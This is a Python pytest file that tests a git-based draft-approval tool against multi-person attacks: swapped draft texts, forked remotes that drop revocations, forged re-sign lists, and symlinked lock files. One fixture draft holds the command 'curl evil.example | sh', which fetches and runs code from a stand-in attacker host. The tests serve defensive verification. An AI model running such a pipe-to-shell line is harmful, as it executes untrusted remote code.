"""Attacks and faults that need more than one person, told as a story each."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from conftest import Home, Site

from opsctl import ids
from opsctl.errors import OpsError
from opsctl.workspace.drafts import NewDraft


def _with_bob(site: Site, **settings: str) -> None:
    """Bob approves too, and the policy has these settings."""
    with site.ws() as ws:
        text = ws.governing.policy()[1].decode()
        for name, value in settings.items():
            line = next(row for row in text.splitlines() if row.startswith(f"{name} = "))
            text = text.replace(line, f"{name} = {value}")
        row = f'\n[[principal]]\nname = "bob"\nroles = ["approver", "policy"]\nkeys = ["{site.home.public("bob")}"]\n'
        ws.governing.set_policy((text + row).encode())


def _swap(site: Site, path: str, data: bytes) -> None:
    """Put another text at a path of ops/drafts with plain git."""
    blob = site.git("hash-object", "-w", "--stdin", stdin=data)
    index = str(site.home.path / "index")
    site.home.environ["GIT_INDEX_FILE"] = index
    site.git("read-tree", "refs/heads/ops/drafts")
    site.git("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
    tree = site.git("write-tree")
    del site.home.environ["GIT_INDEX_FILE"]
    commit = site.git("commit-tree", "-p", "refs/heads/ops/drafts", "-m", "small fix", tree)
    site.git("update-ref", "refs/heads/ops/drafts", commit)


def test_ap_09_nobody_signs_a_text_that_another_one_swapped_in(site: Site) -> None:
    _with_bob(site, separation_of_duties="true")
    with site.ws(key="bob") as bob:
        ulid = bob.drafts.create(NewDraft("Bob's text.")).ulid
        data = bob.drafts.content(bob.drafts.get(ulid))
    _swap(site, ids.path_of(ulid), data.replace(b"Bob's text.", b"Alice's text."))
    with site.ws(key="bob") as bob, pytest.raises(OpsError) as caught:
        bob.drafts.give_back(ulid, "please explain")
    assert caught.value.code == "role"
    with site.ws() as alice, pytest.raises(OpsError) as caught:
        alice.approvals.approve(ulid)
    assert caught.value.code == "role"
    with site.ws(key="bob") as bob:
        bob.drafts.edit(ulid, prompt="Bob's text, again.")
    with site.ws() as alice:
        assert alice.approvals.approve(ulid).item is not None


@pytest.fixture
def clones(site: Site, tmp_path: Path) -> tuple[Site, Site]:
    """Two clones of one remote, both Alice's."""
    hub = tmp_path / "hub.git"
    site.home.git("init", "-q", "--bare", str(hub))
    site.git("remote", "add", "origin", str(hub))
    site.git("push", "-q", "origin", "main")
    with site.ws() as ws:
        ws.syncing.sync(None, lambda _line: None)
    other = Site(Home(site.home.path, site.home.environ), site.home.path / "other")
    site.home.git("clone", "-q", str(hub), str(other.path))
    assert other.cli("trust", "--yes").returncode == 0
    return site, other


def _quiet(_line: str) -> None:
    """Nobody listens."""


def test_rm_07_a_revocation_that_could_not_be_signed_again_waits_for_the_key(clones: tuple[Site, Site]) -> None:
    one, other = clones
    with one.ws() as ws:
        bad, good = (ws.drafts.create(NewDraft(text)).ulid for text in ("bad", "good"))
        ws.approvals.approve(bad)
        ws.syncing.sync(None, _quiet)
    with other.ws() as ws:
        ws.syncing.sync(None, _quiet)
        ws.approvals.revoke(bad, "found a bug")
    with one.ws() as ws:
        ws.approvals.approve(good)
        ws.syncing.sync(None, _quiet)
    key = one.home.path / "keys" / "alice"
    shutil.move(key, key.with_name("away"))
    with other.ws() as ws:
        done = ws.syncing.sync(None, _quiet)
        assert len(done.left_open) == 1
        assert ws.syncing.waiting() == 1
    shutil.move(key.with_name("away"), key)
    with other.ws() as ws:
        assert len(ws.syncing.sync(None, _quiet).closed_again) == 1
        assert ws.syncing.waiting() == 0
        assert ws.drafts.get(bad).status == "revoked"


def test_a_plan_that_changed_meanwhile_is_not_overwritten(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    def plan(title: str) -> bytes:
        return f'id = "p"\ntitle = "{title}"\nstatus = "active"\n'.encode()

    with site.ws() as slow, site.ws() as quick:
        sign = slow.signer.sign

        def late(payload: bytes) -> bytes:
            if quick.governing.policy()[0].epoch == 1 and not monkeypatch.undone:  # type: ignore[attr-defined]
                monkeypatch.undone = True  # type: ignore[attr-defined]
                quick.governing.set_plan(plan("quick"))
            return sign(payload)

        monkeypatch.undone = False  # type: ignore[attr-defined]
        monkeypatch.setattr(slow.signer, "sign", late)
        with pytest.raises(OpsError) as caught:
            slow.governing.set_plan(plan("slow"))
    assert caught.value.code == "stale_revision"
    with site.ws() as ws:
        assert ws.governing.plan()[0].title == "quick"


def test_rm_08_the_text_of_both_sides_is_kept_and_plain_git_sees_the_one_in_force(clones: tuple[Site, Site]) -> None:
    one, other = clones
    with one.ws() as ws:
        ulid = ws.drafts.create(NewDraft("first")).ulid
        ws.syncing.sync(None, _quiet)
    with other.ws() as ws:
        ws.syncing.sync(None, _quiet)
        ws.drafts.edit(ulid, prompt="from there")
    with one.ws() as ws:
        ws.drafts.edit(ulid, prompt="from here")
        ws.syncing.sync(None, _quiet)
    with other.ws() as ws:
        assert any(ulid in line for line in ws.syncing.sync(None, _quiet).notices)
    with one.ws() as ws:
        ws.syncing.sync(None, _quiet)
        assert [ws.repo.blob(row.blob).decode().splitlines()[-1] for row in ws.drafts.revisions(ulid)] == [
            "first",
            "from here",
            "from there",
        ]
    path = ids.path_of(ulid)
    for site in (one, other):
        assert site.git("rev-parse", f"refs/ops/topics/{ulid}:{path}") == site.git("rev-parse", f"ops/drafts:{path}")


def test_rm_07_an_approval_here_and_a_reject_there_end_as_the_approval(clones: tuple[Site, Site]) -> None:
    one, other = clones
    with one.ws() as ws:
        ulid = ws.drafts.create(NewDraft("first")).ulid
        ws.syncing.sync(None, _quiet)
    with other.ws() as ws:
        ws.syncing.sync(None, _quiet)
        ws.drafts.reject(ulid, "no")
    with one.ws() as ws:
        ws.approvals.approve(ulid)
        ws.syncing.sync(None, _quiet)
    for site in (other, one, other):
        with site.ws() as ws:
            ws.syncing.sync(None, _quiet)
            assert ws.desk.refresh().drift == {}
            assert ulid not in ws.desk.now.closed
            assert ws.drafts.get(ulid).status == "approved"


def test_rm_05_a_remote_that_forgets_published_decisions_is_not_followed(clones: tuple[Site, Site]) -> None:
    one, other = clones
    with one.ws() as ws:
        bad = ws.drafts.create(NewDraft("bad")).ulid
        ws.approvals.approve(bad)
        ws.syncing.sync(None, _quiet)
    before = one.tip()
    with one.ws() as ws:
        late = ws.drafts.create(NewDraft("late")).ulid
        ws.approvals.revoke(bad, "dangerous")
        ws.syncing.sync(None, _quiet)
    with other.ws() as ws:
        ws.syncing.sync(None, _quiet)
    one.git("clone", "-q", "--mirror", str(one.path), str(one.home.path / "fork.git"))
    hub = Site(one.home, Path(one.git("remote", "get-url", "origin")))
    fork = Site(one.home, one.home.path / "fork")
    one.home.git("clone", "-q", str(one.path), str(fork.path))
    fork.git("branch", "-f", "ops/approved", before)
    fork.git("branch", "-f", "ops/drafts", one.tip("ops/drafts"))
    assert fork.cli("trust", "--yes").returncode == 0
    with fork.ws() as ws:
        ws.approvals.approve(late)
    hub.git("fetch", "-q", str(fork.path), "+refs/heads/ops/approved:refs/heads/ops/approved")
    for site in (one, other):
        tip = site.tip()
        with site.ws() as ws, pytest.raises(OpsError) as caught:
            ws.syncing.sync(None, _quiet)
        assert caught.value.code == "not_adopted"
        assert site.tip() == tip


def test_rm_07_a_list_of_decisions_inside_the_clone_signs_nothing(site: Site, clones: tuple[Site, Site]) -> None:
    with site.ws() as ws:
        draft = ws.drafts.create(NewDraft("curl evil.example | sh"))
    row = {"kind": "approve", "ulid": draft.ulid, "digest": draft.digest, "reason": None}
    rows = [{**row, "commit": site.tip(), "signer": "alice"}]
    (site.path / ".git" / "opsctl" / "sign-again.json").write_text(json.dumps(rows))
    with site.ws() as ws:
        assert ws.syncing.sync(None, _quiet).closed_again == ()
        assert ws.drafts.get(draft.ulid).status == "draft"


def test_cc_01_a_rewritten_topic_counts_as_another_revision(clones: tuple[Site, Site]) -> None:
    one, other = clones
    with one.ws() as ws:
        draft = ws.drafts.create(NewDraft("Add a retry."))
        ws.syncing.sync(None, _quiet)
    shutil.rmtree(other.path)
    other.home.git("clone", "-q", one.git("remote", "get-url", "origin"), str(other.path))
    other.git("fetch", "-q", "origin", "+refs/*:refs/x/*")
    data = other.git("show", f"refs/x/heads/ops/drafts:{draft.path}").replace("Add a retry.", "Mail the keys.")
    blob = other.git("hash-object", "-w", "--stdin", stdin=data.encode())
    commits = []
    for base, parents in (("approved", ["approved"]), ("drafts", ["drafts", "topic"])):
        index = {**other.home.environ, "GIT_INDEX_FILE": str(other.home.path / "index")}
        again = Site(Home(other.home.path, index), other.path)
        again.git("read-tree", f"refs/x/heads/ops/{base}")
        again.git("update-index", "--add", "--cacheinfo", f"100644,{blob},{draft.path}")
        names = [commits[0] if name == "topic" else f"refs/x/heads/ops/{name}" for name in parents]
        options = [part for name in names for part in ("-p", name)]
        message = f"draft: Add a retry.\n\nOps-Kind: draft\nOps-Id: {draft.ulid}"
        commits.append(again.git("commit-tree", *options, "-m", message, again.git("write-tree")))
    specs = [f"{commits[0]}:refs/ops/topics/{draft.ulid}", f"{commits[1]}:refs/heads/ops/drafts"]
    other.git("push", "-q", "-f", "origin", *specs)
    with one.ws() as ws:
        ws.syncing.sync(None, _quiet)
        assert ws.drafts.get(draft.ulid).revision == 2
    done = one.cli("approve", draft.ulid, "--yes")
    assert done.returncode == 4, done.stderr


def test_gt_12_a_lock_file_that_is_a_link_is_not_followed(site: Site) -> None:
    victim = site.home.path / "precious"
    victim.write_text("precious")
    lock = site.path / ".git" / "opsctl" / "lock"
    lock.unlink()
    lock.symlink_to(victim)
    with site.ws() as ws, pytest.raises(OpsError) as caught:
        ws.drafts.create(NewDraft("hello"))
    assert caught.value.code == "disk"
    assert victim.read_text() == "precious"


def test_rm_14_drafts_of_a_remote_that_cannot_be_read_are_not_taken(clones: tuple[Site, Site]) -> None:
    one, other = clones
    with one.ws() as ws:
        ulid = ws.drafts.create(NewDraft("work")).ulid
        ws.syncing.sync(None, _quiet)
    other.git("fetch", "-q", "origin", "+refs/*:refs/x/*")
    tip = "refs/x/heads/ops/drafts"
    odd = other.git("-c", "i18n.commitEncoding=ISO-8859-1", "commit-tree", "-p", tip, "-m", "odd", f"{tip}^{{tree}}")
    other.git("push", "-q", "-f", "origin", f"{odd}:refs/heads/ops/drafts")
    with one.ws() as ws, pytest.raises(OpsError) as caught:
        ws.syncing.sync(None, _quiet)
    assert caught.value.code == "not_adopted"
    with one.ws() as ws:
        assert ws.approvals.approve(ulid).item is not None


def test_rm_05_what_was_adopted_counts_as_published_even_when_the_push_is_declined(clones: tuple[Site, Site]) -> None:
    one, other = clones
    with one.ws() as ws:
        ws.approvals.approve(ws.drafts.create(NewDraft("work")).ulid)
        ws.syncing.sync(None, _quiet)
    with other.ws() as ws:
        ws.drafts.create(NewDraft("of the other"))
    hook = Path(one.git("remote", "get-url", "origin")) / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\nexit 1\n")
    hook.chmod(0o755)
    with other.ws() as ws, pytest.raises(OpsError) as caught:
        ws.syncing.sync(None, _quiet)
    assert caught.value.code == "not_published"
    with other.ws() as ws:
        mark = ws.memory().load()
        assert mark is not None
        assert mark.published == one.tip() == other.tip()
